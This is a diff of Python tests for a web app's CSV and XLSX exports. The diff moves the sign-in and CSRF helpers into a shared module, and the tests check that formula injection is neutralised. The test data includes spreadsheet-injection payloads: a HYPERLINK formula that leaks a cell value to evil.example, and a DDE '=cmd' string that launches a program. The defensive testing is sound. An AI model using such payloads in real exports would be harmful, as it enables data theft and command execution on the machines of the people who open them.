@@ -17,8 +17,9 @@ from sqlalchemy import MetaData, create_engine, select, update
 from bpo2_bridge.demo.content import DEMO_ADMIN_LOGIN
 from bpo2_bridge.source.mapping import physical_table
 from bpo2_bridge.sync.refresh import refresh_customer
-from bpo2_bridge.web.app import create_app
 from bpo2_bridge.web.grid_export import FORMULA_START, csv_lines
+
+from .helpers import page_token, sign_in
 
 HOSTILE = {
     "equals": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
@@ -34,20 +35,7 @@ def _parse(body: bytes) -> list[list[str]]:
     return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
 
 
-def _token(client, url: str) -> str:  # type: ignore[no-untyped-def]
-    match = re.search(r'name="csrf_token" value="([^"]+)"', client.get(url).get_data(as_text=True))
-    assert match
-    return match.group(1)
-
-
-def _sign_in(client, login: str) -> None:  # type: ignore[no-untyped-def]
-    from bpo2_bridge.store.users import DEMO_PASSWORD
-
-    data = {"login": login, "password": DEMO_PASSWORD, "csrf_token": _token(client, "/login")}
-    assert client.post("/login", data=data).status_code == 302
-
-
-def test_grid_csv_neutralises_formulas_and_uses_the_xlsx_labels(copied_demo) -> None:
+def test_grid_csv_neutralises_formulas_and_uses_the_xlsx_labels(make_app, copied_demo) -> None:
     bridge = copied_demo()
     table = physical_table(bridge.mapping["customer"], MetaData())
     writer = create_engine(f"sqlite:///{bridge.settings.demo_source_path}")  # BPO2 users type these
@@ -66,8 +54,8 @@ def test_grid_csv_neutralises_formulas_and_uses_the_xlsx_labels(copied_demo) -> 
     writer.dispose()
     for account_no in accounts:
         refresh_customer(bridge, account_no)
-    client = create_app(bridge=bridge).test_client()
-    _sign_in(client, DEMO_ADMIN_LOGIN)
+    client = make_app(bridge).test_client()
+    assert sign_in(client, DEMO_ADMIN_LOGIN).status_code == 302
 
     response = client.get("/customers?format=csv&page_size=200")
     assert response.status_code == 200
@@ -95,7 +83,7 @@ def test_grid_csv_neutralises_formulas_and_uses_the_xlsx_labels(copied_demo) -> 
 
 def test_xlsx_about_sheet_keeps_a_formula_like_search_as_text(demo_bridge, app) -> None:
     client = app.test_client()
-    _sign_in(client, DEMO_ADMIN_LOGIN)
+    assert sign_in(client, DEMO_ADMIN_LOGIN).status_code == 302
     search = '=HYPERLINK("http://evil.example","x")'
     response = client.get("/customers", query_string={"format": "xlsx", "q": search})
     about = openpyxl.load_workbook(io.BytesIO(response.data))["About"]
@@ -103,7 +91,7 @@ def test_xlsx_about_sheet_keeps_a_formula_like_search_as_text(demo_bridge, app) 
     assert cells["Search"].value == search and cells["Search"].data_type == "s"
 
 
-def test_check_csvs_neutralise_formulas(copied_demo, write_source_rows) -> None:
+def test_check_csvs_neutralise_formulas(make_app, copied_demo, write_source_rows) -> None:
     bridge = copied_demo()
     hostile_no = "=cmd|' /C calc'!A0"
     write_source_rows(
@@ -119,9 +107,9 @@ def test_check_csvs_neutralise_formulas(copied_demo, write_source_rows) -> None:
             expiry_date=dt.date(2026, 4, 30),
         ),
     )
-    client = create_app(bridge=bridge).test_client()
-    _sign_in(client, "ops")
-    token = _token(client, "/checks")
+    client = make_app(bridge).test_client()
+    assert sign_in(client, "ops").status_code == 302
+    token = page_token(client, "/checks")
     assert (
         client.post("/checks/contract_expiry_before_start/run", data={"csrf_token": token}).status_code == 303
     )
